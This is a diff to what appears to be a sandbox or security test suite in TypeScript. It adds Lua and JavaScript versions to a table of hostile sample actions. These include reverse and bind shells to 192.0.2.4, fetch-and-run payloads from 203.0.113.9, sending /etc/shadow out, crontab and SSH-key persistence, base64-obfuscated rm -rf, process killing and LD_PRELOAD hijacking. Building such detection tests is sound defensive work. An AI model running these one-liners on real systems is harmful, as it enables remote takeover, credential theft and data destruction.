@@ -10,6 +10,7 @@ const runners = {
   php: (code) => ['php', '-r', code],
   ruby: (code) => ['ruby', '-e', code],
   javascript: (code) => ['node', '-e', code],
+  lua: (code) => ['lua', '-e', code],
   perl: (code) => ['perl', '-e', code],
 } satisfies Partial<Record<Language, (code: string) => string[]>>;
 
@@ -41,8 +42,9 @@ const behaviours: readonly Behaviour[] = [
       php: '$s=fsockopen("192.0.2.4",4444);exec("/bin/sh -i <&3 >&3 2>&3");',
       ruby: 's=TCPSocket.new("192.0.2.4",4444);exec "/bin/sh -i", in: s, out: s, err: s',
       javascript:
-        'const n=require("net"),c=require("child_process").spawn("/bin/sh",[]);const s=n.connect(4444,"192.0.2.4",()=>{s.pipe(c.stdin);c.stdout.pipe(s)})',
+        'var net=require("net"),sh=require("child_process").spawn("/bin/sh",[]);var c=new net.Socket();c.connect(4444,"192.0.2.4",function(){c.pipe(sh.stdin);sh.stdout.pipe(c)});',
       perl: 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton("192.0.2.4")));open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");',
+      lua: 'local s=require("socket").tcp() s:connect("192.0.2.4",4444) while true do local c=s:receive() local f=io.popen(c) s:send(f:read("*a")) end',
     },
   },
   {
@@ -54,6 +56,9 @@ const behaviours: readonly Behaviour[] = [
         'import socket,os,subprocess\ns=socket.socket()\ns.bind(("0.0.0.0",4444))\ns.listen(1)\nc,a=s.accept()\nos.dup2(c.fileno(),0)\nsubprocess.call(["/bin/sh","-i"])',
       php: '$s=stream_socket_server("tcp://0.0.0.0:4444");$c=stream_socket_accept($s);proc_open("/bin/sh",[$c,$c,$c],$p);',
       ruby: 's=TCPServer.new("0.0.0.0",4444).accept;spawn("/bin/sh", in: s, out: s, err: s)',
+      javascript:
+        'require("net").createServer(function(c){var sh=require("child_process").spawn("/bin/sh",[]);c.pipe(sh.stdin);sh.stdout.pipe(c);sh.stderr.pipe(c)}).listen(4444,"0.0.0.0");',
+      lua: 'local c=require("socket").bind("0.0.0.0",4444):accept() while true do local f=io.popen(c:receive("*l")) c:send(f:read("*a")) end',
     },
   },
   {
@@ -67,6 +72,8 @@ const behaviours: readonly Behaviour[] = [
       python: 'import urllib.request\nexec(urllib.request.urlopen("http://203.0.113.9/x").read())',
       php: 'eval(file_get_contents("http://203.0.113.9/x"));',
       ruby: 'require "open-uri"; eval URI.open("http://203.0.113.9/x").read',
+      javascript: 'fetch("http://203.0.113.9/x").then(r=>r.text()).then(t=>eval(t))',
+      lua: 'load((require("socket.http").request("http://203.0.113.9/x")))()',
     },
   },
   {
@@ -82,6 +89,9 @@ const behaviours: readonly Behaviour[] = [
         'import urllib.request,os\nurllib.request.urlretrieve("http://203.0.113.9/x","/tmp/x")\nos.chmod("/tmp/x",0o755)\nos.system("/tmp/x")',
       php: 'copy("http://203.0.113.9/x","/tmp/x");chmod("/tmp/x",0755);system("/tmp/x");',
       ruby: 'IO.copy_stream(URI.open("http://203.0.113.9/x"),"/tmp/x");File.chmod(0755,"/tmp/x");system("/tmp/x")',
+      javascript:
+        'const fs=require("fs");require("http").get("http://203.0.113.9/x",r=>{const f=fs.createWriteStream("/tmp/x");r.pipe(f);f.on("finish",()=>{fs.chmodSync("/tmp/x",0o755);require("child_process").spawn("/tmp/x")})})',
+      lua: 'require("socket.http").request{url="http://203.0.113.9/x",sink=ltn12.sink.file(io.open("/tmp/x","wb"))} require("posix").chmod("/tmp/x","755") os.execute("/tmp/x")',
     },
   },
   {
@@ -94,6 +104,7 @@ const behaviours: readonly Behaviour[] = [
       ruby: '`rm -rf /data`',
       javascript: 'require("child_process").execSync("rm -rf /data")',
       perl: 'system("rm -rf /data");',
+      lua: 'os.execute("rm -rf /data")',
     },
   },
   {
@@ -106,6 +117,7 @@ const behaviours: readonly Behaviour[] = [
       ruby: 'system("rm","-rf","/data")',
       javascript: 'require("child_process").spawnSync("rm",["-rf","/data"])',
       perl: 'system("rm","-rf","/data");',
+      lua: 'require("posix").exec("/bin/rm",{"-rf","/data"})',
     },
   },
   {
@@ -116,6 +128,8 @@ const behaviours: readonly Behaviour[] = [
       python: 'open("/mnt/etc/crontab","a").write("* * * * * root curl http://203.0.113.9/x | sh\\n")',
       php: 'file_put_contents("/mnt/etc/crontab","* * * * * root curl http://203.0.113.9/x | sh\\n",FILE_APPEND);',
       ruby: 'File.open("/mnt/etc/crontab","a") { |f| f.puts "* * * * * root curl http://203.0.113.9/x | sh" }',
+      javascript: 'require("fs").appendFileSync("/mnt/etc/crontab","* * * * * root curl http://203.0.113.9/x | sh\\n")',
+      lua: 'local f=io.open("/mnt/etc/crontab","a") f:write("* * * * * root curl http://203.0.113.9/x | sh\\n") f:close()',
     },
   },
   {
@@ -126,6 +140,9 @@ const behaviours: readonly Behaviour[] = [
       python: 'open("/root/.ssh/authorized_keys","a").write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAA x\\n")',
       php: '$f=fopen("/root/.ssh/authorized_keys","a");fwrite($f,"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAA x\\n");',
       ruby: 'File.write("/root/.ssh/authorized_keys","ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAA x\\n",mode: "a")',
+      javascript:
+        'require("fs").promises.appendFile("/root/.ssh/authorized_keys","ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAA x\\n")',
+      lua: 'io.open("/root/.ssh/authorized_keys","a"):write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAA x\\n")',
     },
   },
   {
@@ -139,6 +156,8 @@ const behaviours: readonly Behaviour[] = [
       python: `import base64\nexec(base64.b64decode("${base64('import os; os.system("rm -rf /data")')}"))`,
       php: `eval(base64_decode("${base64('system("rm -rf /data");')}"));`,
       ruby: `eval("${base64('system("rm -rf /data")')}".unpack1("m"))`,
+      javascript: `eval(Buffer.from("${base64('require("child_process").exec("rm -rf /data")')}","base64").toString())`,
+      lua: `load(require("mime").unb64("${base64('os.execute("rm -rf /data")')}"))()`,
     },
   },
   {
@@ -149,6 +168,8 @@ const behaviours: readonly Behaviour[] = [
       python: 'import requests\nrequests.post("http://203.0.113.9/",data=open("/etc/shadow").read())',
       php: '$c=curl_init("http://203.0.113.9/");curl_setopt($c,CURLOPT_POSTFIELDS,file_get_contents("/etc/shadow"));curl_exec($c);',
       ruby: 'Net::HTTP.post(URI("http://203.0.113.9/"),File.read("/etc/shadow"))',
+      javascript: 'fetch("http://203.0.113.9/",{method:"POST",body:require("fs").readFileSync("/etc/shadow")})',
+      lua: 'require("socket.http").request("http://203.0.113.9/",io.open("/etc/shadow"):read("*a"))',
     },
   },
   {
@@ -159,6 +180,8 @@ const behaviours: readonly Behaviour[] = [
       python: 'import os\nos.kill(1234,9)',
       php: 'posix_kill(1234,9);',
       ruby: 'Process.kill(9,1234)',
+      javascript: 'process.kill(1234,9)',
+      lua: 'require("posix").kill(1234,9)',
     },
   },
   {
@@ -169,6 +192,8 @@ const behaviours: readonly Behaviour[] = [
       python: 'import os\nos.environ["LD_PRELOAD"]="/tmp/x.so"',
       php: 'putenv("LD_PRELOAD=/tmp/x.so");mail("a","b","c");',
       ruby: 'ENV["LD_PRELOAD"]="/tmp/x.so"',
+      javascript: 'process.env.LD_PRELOAD="/tmp/x.so";require("child_process").exec("ls")',
+      lua: 'require("posix").setenv("LD_PRELOAD","/tmp/x.so")',
     },
   },
 ];
